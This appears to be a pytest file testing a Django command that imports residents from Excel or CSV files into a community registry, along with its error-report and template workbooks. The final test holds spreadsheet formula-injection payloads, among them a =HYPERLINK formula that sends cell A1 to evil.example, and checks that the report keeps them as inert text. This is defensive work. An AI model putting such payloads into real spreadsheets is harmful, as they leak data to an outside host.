"""The import_residents command, the error-report workbook and the import template."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from gongzhi.registry.importing.report import (
    REASON_HEADER,
    TEMPLATE_FIELDS,
    write_error_report,
    write_template,
)
from gongzhi.registry.importing.validate import RowError
from gongzhi.registry.models import Person

from .factories import make_id
from .import_helpers import COMMUNITY, HEADERS, xlsx_bytes

pytestmark = pytest.mark.django_db

GOOD = make_id("341702", "19800102", "011")


def call(*args):
    out = io.StringIO()
    call_command("import_residents", *args, stdout=out)
    return out.getvalue().splitlines()


def write(tmp_path, rows, name="people.xlsx", title_rows=0):
    path = tmp_path / name
    path.write_bytes(xlsx_bytes(rows, title_rows=title_rows))
    return path


def test_command_prints_row_errors_and_the_counts_as_its_last_line(demo, tmp_path):
    path = write(tmp_path, [HEADERS, ["张三", GOOD], ["", make_id(sequence="013")]])
    lines = call(str(path), "--area", COMMUNITY)
    assert "row 3, column 姓名: 请填写姓名。" in lines
    assert json.loads(lines[-1]) == {"rows": 2, "created": 1, "updated": 0, "unchanged": 0, "failed": 1}
    assert Person.objects.count() == 1


def test_command_dry_run_and_strict_write_nothing(demo, tmp_path):
    path = write(tmp_path, [HEADERS, ["张三", GOOD], ["", make_id(sequence="013")]])
    assert json.loads(call(str(path), "--area", COMMUNITY, "--dry-run")[-1])["created"] == 1
    assert json.loads(call(str(path), "--area", COMMUNITY, "--strict")[-1])["created"] == 0
    assert not Person.objects.exists()


def test_command_exits_2_when_the_file_cannot_be_read(demo, tmp_path):
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"this is not a workbook")
    for path in (broken, tmp_path / "missing.xlsx"):
        with pytest.raises(CommandError, match="cannot read") as caught:
            call(str(path), "--area", COMMUNITY)
        assert caught.value.returncode == 2


def test_command_without_a_header_exits_2(demo, tmp_path):
    path = write(tmp_path, [["随便", "什么"], ["1", "2"]])
    with pytest.raises(CommandError, match="找不到表头") as caught:
        call(str(path), "--area", COMMUNITY)
    assert caught.value.returncode == 2


def test_command_writes_the_error_report(demo, tmp_path):
    path = write(tmp_path, [HEADERS, ["张三", GOOD], ["", make_id(sequence="013")]], title_rows=1)
    out = tmp_path / "report.xlsx"
    call(str(path), "--area", COMMUNITY, "--report", str(out))
    sheet = load_workbook(out).active
    assert sheet.cell(row=1, column=1).value == "幸福社区人员花名册"
    assert [c.value for c in sheet[2]] == [*HEADERS, REASON_HEADER]
    assert sheet.cell(row=3, column=len(HEADERS) + 1).value is None
    assert sheet.cell(row=4, column=len(HEADERS) + 1).value == "姓名：请填写姓名。"
    assert sheet.cell(row=4, column=2).value == make_id(sequence="013")


def test_error_report_joins_several_reasons_of_a_row():
    data = xlsx_bytes([HEADERS, ["x", "y"]])
    out = io.BytesIO()
    write_error_report(data=data, filename="a.xlsx", header_row=1, out=out,
                       errors=[RowError(2, "姓名", "甲。"), RowError(2, "身份证号", "乙。")])
    sheet = load_workbook(out).active
    assert sheet.cell(row=2, column=len(HEADERS) + 1).value == "姓名：甲。；身份证号：乙。"


def test_template_has_chinese_headers_and_drop_down_lists():
    out = io.BytesIO()
    write_template(out)
    workbook = load_workbook(out)
    sheet = workbook.worksheets[0]
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["姓名", "身份证号", "性别"] and len(headers) == len(TEMPLATE_FIELDS)
    options = workbook["选项"]
    assert options.sheet_state == "hidden"
    validations = {str(v.sqref).split(":")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
    column_of = {header: sheet.cell(row=1, column=n + 1).column_letter for n, header in enumerate(headers)}
    for header in ("性别", "民族", "户籍类型", "居住状态", "政治面貌", "文化程度"):
        assert f"{column_of[header]}2" in validations
    ethnicity = validations[f"{column_of['民族']}2"]
    letter = ethnicity.split("!$")[1].split("$")[0]
    names = [options[f"{letter}{row}"].value for row in range(2, 58)]
    assert names[0] == "汉族" and names[-1] == "基诺族" and len(set(names)) == 56


def test_template_can_be_filled_and_imported(demo, tmp_path):
    out = io.BytesIO()
    write_template(out)
    workbook = load_workbook(out)
    workbook.worksheets[0].append(["张三", GOOD, "男", "1980-01-02", "13912345678", "汉族", "户籍", "常住", "群众",
                                   "初中", "在职", "无名路1号"])
    path = tmp_path / "filled.xlsx"
    workbook.save(path)
    lines = call(str(path), "--area", COMMUNITY)
    assert json.loads(lines[-1])["created"] == 1
    person = Person.objects.get()
    assert (person.registration, person.residence_status, person.education) == ("local", "permanent", "junior_high")


def test_error_report_writes_back_formula_like_values_as_text():
    """A clerk opens the report: a name typed as =HYPERLINK(…) must not become a live formula."""
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "@SUM(A1:A2)", "-2+3"]
    rows = [HEADERS, *([value, make_id(sequence="013")] for value in hostile)]
    text = io.StringIO()
    csv.writer(text).writerows(rows)  # as a clerk's CSV holds them: the typed text, not a formula
    out = io.BytesIO()
    write_error_report(data=text.getvalue().encode("utf-8"), filename="a.csv", header_row=1, out=out,
                       errors=[RowError(row, "姓名", "不对。") for row in range(2, 2 + len(hostile))])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert [sheet.cell(row=row, column=1).value for row in range(2, 2 + len(hostile))] == hostile
